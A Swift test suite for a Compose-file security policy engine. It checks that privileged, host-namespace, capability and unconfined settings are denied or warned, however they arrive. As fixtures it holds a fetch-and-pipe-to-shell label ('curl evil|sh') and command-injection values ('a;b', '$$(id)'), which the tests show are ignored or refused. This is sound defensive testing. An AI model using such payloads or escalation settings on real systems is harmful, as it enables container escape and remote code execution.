import ComposeFile
import StackPlanning
import Testing

/// AB-E4: the canonical model counts, by whatever way something got into it.
@Suite struct PrivilegePolicyTests {
  @Test func `AB-E4: privileged by a variable's default`() throws {
    var stack = JudgedStack("services:\n  web:\n    image: a\n    privileged: \"${P:-true}\"\n")
    #expect(try stack.denied() == ["POL-1 compose.yaml:4:17"])
    stack.environment = ["P": "false"]
    #expect(try stack.denied().isEmpty)
  }

  @Test func `AB-E4: privileged in an override file`() throws {
    let stack = JudgedStack(
      "services:\n  web:\n    image: a\n    privileged: false\n",
      files: ["compose.override.yaml": "services:\n  web:\n    privileged: true\n"])
    #expect(try stack.denied() == ["POL-1 compose.override.yaml:3:17"])
  }

  @Test func `AB-E4: privileged by extends, of this file and of another`() throws {
    let stack = JudgedStack(
      """
      services:
        web: {image: a, extends: {service: base}}
        job: {image: a, extends: {file: other.yaml, service: mighty}}
        base: {image: a, privileged: true}
      """, files: ["other.yaml": "services:\n  mighty:\n    image: a\n    privileged: true\n"])
    #expect(try Set(stack.denied()) == ["POL-1 compose.yaml:4:32", "POL-1 other.yaml:4:17"])
  }

  @Test func `AB-E4: a service of an inactive profile counts once it is active`() throws {
    var stack = JudgedStack(
      "services:\n  web: {image: a}\n  debug:\n    image: a\n    profiles: [debug]\n    privileged: true\n")
    #expect(try stack.denied().isEmpty)
    stack.request.profiles = ["debug"]
    #expect(try stack.denied() == ["POL-1 compose.yaml:6:17"])
  }

  @Test func `AB-E4: privileged by an anchor of an x- section`() throws {
    let stack = JudgedStack(
      "x-base: &base\n  privileged: true\n  cap_add: [ALL]\nservices:\n  web:\n    <<: *base\n    image: a\n")
    #expect(try stack.denied() == ["POL-1 compose.yaml:2:15", "POL-4 compose.yaml:3:13"])
  }

  @Test func `Hooks and builds with all rights are as good as a privileged service`() throws {
    let stack = JudgedStack(
      """
      services:
        web:
          image: a
          post_start:
            - {command: [id], privileged: true}
          pre_start:
            - {image: b, command: [id], privileged: true}
          build: {context: ., privileged: true, network: host}
      """)
    #expect(
      try stack.denied() == ["POL-1 compose.yaml:5:7", "POL-1 compose.yaml:7:7", "POL-1 compose.yaml:8:37"]
    )
    #expect(try stack.denied(.strict).last == "POL-3 compose.yaml:8:52")
  }
}

/// The table of S-POL, cell by cell.
@Suite struct PolicyLevelTests {
  @Test(
    arguments: [
      ("privileged: true", "POL-1", "warn", "deny", "deny"), ("network_mode: host", "POL-3", "warn", "warn", "deny"),
      ("pid: host", "POL-3", "warn", "deny", "deny"), ("ipc: host", "POL-3", "warn", "deny", "deny"),
      ("userns_mode: host", "POL-3", "warn", "deny", "deny"), ("uts: host", "POL-3", "warn", "warn", "deny"),
      ("cgroup: host", "POL-3", "warn", "warn", "deny"), ("network_mode: \"container:other\"", "POL-3", "warn", "warn", "deny"),
      ("pid: \"container:other\"", "POL-3", "warn", "deny", "deny"), ("cap_add: [SYS_ADMIN]", "POL-4", "warn", "deny", "deny"),
      ("cap_add: [cap_net_admin]", "POL-4", "warn", "deny", "deny"), ("cap_add: [all]", "POL-4", "warn", "deny", "deny"),
      ("cap_add: [CHOWN]", "POL-4", "", "", "deny"), ("devices: [\"/dev/kmsg:/dev/kmsg\"]", "POL-5", "warn", "deny", "deny"),
      ("device_cgroup_rules: [\"c 1:3 rwm\"]", "POL-5", "warn", "deny", "deny"), ("gpus: all", "POL-5", "warn", "warn", "deny"),
      ("sysctls: {kernel.core_pattern: x}", "POL-5", "warn", "warn", "deny"),
      ("security_opt: [\"seccomp=unconfined\"]", "POL-6", "warn", "deny", "deny"),
      ("security_opt: [\"apparmor:unconfined\"]", "POL-6", "warn", "deny", "deny"),
      ("security_opt: [\"label:disable\"]", "POL-6", "warn", "deny", "deny"),
      ("cgroup_parent: /", "POL-6", "warn", "deny", "deny"),
      ("oom_kill_disable: true", "POL-6", "warn", "deny", "deny"),
      ("volumes_from: [\"container:other\"]", "POL-7", "warn", "deny", "deny"),
      ("runtime: other", "POL-7", "warn", "deny", "deny"),
      ("logging: {driver: other}", "POL-7", "warn", "deny", "deny"),
      ("credential_spec: {file: ./c.json}", "POL-7", "warn", "deny", "deny"),
      ("use_api_socket: true", "POL-7", "warn", "deny", "deny"), ("provider: {type: x}", "POL-7", "warn", "deny", "deny"),
      ("security_opt: [\"no-new-privileges:true\"]", "", "", "", ""), ("cap_drop: [ALL]", "", "", "", ""),
      ("sysctls: {net.core.somaxconn: 1}", "", "", "", ""), ("runtime: runc", "", "", "", ""), ("ipc: shareable", "", "", "", ""),
      ("logging: {driver: local}", "", "", "", ""), ("network_mode: none", "", "", "", ""),
    ] as [(String, String, String, String, String)])
  func `An attribute comes to what the table says at each level`(
    _ attribute: String, _ rule: String, _ open: String, _ standard: String, _ strict: String
  ) throws {
    let stack = JudgedStack("services:\n  web:\n    image: a\n    \(attribute)\n")
    for (level, wanted) in [(PolicyLevel.open, open), (.standard, standard), (.strict, strict)] {
      #expect(try stack.words(level) == (wanted.isEmpty ? [] : ["\(rule) \(wanted)"]), "\(level)")
      if wanted == "deny" { #expect(try stack.findings(level).first { $0.isDenied }?.place.contains("compose.yaml:") == true) }
    }
  }

  @Test func `The host's network by its name is the host's network`() throws {
    let stack = JudgedStack(
      "services:\n  web: {image: a, networks: [h]}\nnetworks: {h: {external: true, name: host}}\n")
    #expect(try stack.words(.standard) == ["POL-3 warn"])
    #expect(try stack.denied(.strict).contains { $0.hasPrefix("POL-3 ") })
  }

  @Test func `What belongs to another stack is told, what belongs to none is not`() throws {
    var stack = JudgedStack(
      """
      services:
        web: {image: a, networks: [theirs, free], volumes: ["data:/d"]}
        job: {image: a, network_mode: blog_default}
        own: {image: a, network_mode: "container:mine", pid: "service:web"}
      networks: {theirs: {external: true, name: blog_net}, free: {external: true, name: proxy}}
      volumes: {data: {external: true, name: blog_data}}
      """)
    stack.context.networkOwners = ["blog_net": "blog", "blog_default": "blog"]
    stack.context.volumes["blog_data"] = PolicyContext.HeldVolume(driver: "local", options: [:], owner: "blog")
    stack.context.containerOwners = ["mine": "shop"]
    #expect(
      try stack.findings().filter { $0.rule == .namespaces }.map(\.message).sorted() == [
        "job joins blog_default, a network of the stack blog", "web joins blog_net, a network of the stack blog",
        "web mounts blog_data, a volume of the stack blog",
      ])
    #expect(try stack.denied().isEmpty)
  }

  // POL-8
  @Test func `Advice stops a strict server by the image only`() throws {
    var stack = JudgedStack(
      """
      services:
        web: {image: a, ports: ["80:80", "127.0.0.1:81:81"], environment: {DB_PASSWORD: secret, PLACE: here}}
        job: {image: "reg.example/a@sha256:\(String(repeating: "a", count: 64))", mem_limit: 1m}
      """)
    stack.context.secretNames = ["DB_PASSWORD"]
    stack.context.registries = ["docker.io"]
    #expect(try stack.findings(.open).isEmpty)
    let standard = try stack.findings(.standard)
    #expect(standard.allSatisfy { $0.severity == .warn && $0.rule == .advice })
    #expect(
      standard.map(\.attribute).sorted() == [
        "services.job.image", "services.web.environment", "services.web.image", "services.web.mem_limit", "services.web.ports",
      ])
    #expect(standard.allSatisfy { !$0.message.contains("secret, ") && !$0.text.contains("= secret") })
    #expect(try stack.denied(.strict).map { $0.prefix(5) } == ["POL-8", "POL-8"])
    stack.context.pinnedServices = ["web"]
    #expect(try stack.denied(.strict).count == 1)
  }

  // AB-E5
  @Test func `AB-E5: labels and extensions run nothing, and names that are none are refused`() throws {
    let harmless = JudgedStack(
      """
      x-slipway: {}
      services:
        web: {image: "a:1", labels: {x.pre-update: "curl evil|sh"}}
      """)
    #expect(try harmless.words(.strict).isEmpty)
    let image = try JudgedStack("services:\n  web: {image: \"a;b\"}\n").loaded().project
    #expect(throws: PlanProblems.self) { try DeployPlanner.plan(image, observed: ObservedStack(project: "shop")) }
    // A name is a name: it goes to the engine as a part of JSON, and gives no rights.
    #expect(try JudgedStack("services:\n  \"--privileged\": {image: a}\n").words(.strict).isEmpty)
    #expect(throws: ComposeProblems.self) {
      try JudgedStack("x-slipway: {hook: \"$$(id)\"}\nservices:\n  web: {image: a}\n").loaded()
    }
  }

  @Test func `All findings come at once, each with a remedy, the denied first`() throws {
    let stack = JudgedStack(
      "services:\n  web: {image: a, privileged: true, pid: host, cap_add: [ALL]}\n  job: {image: a, runtime: other}\n")
    let denied = PolicyDenied(try stack.findings())
    #expect(denied.rules.map(\.rawValue) == ["POL-1", "POL-3", "POL-4", "POL-7"])
    #expect(denied.denied.count == 4)
    #expect(denied.findings.prefix(4).allSatisfy { $0.isDenied && !$0.remedy.isEmpty && $0.service != nil })
    #expect(denied.remedy.contains("--allow POL-1 --allow POL-3"))
  }
}
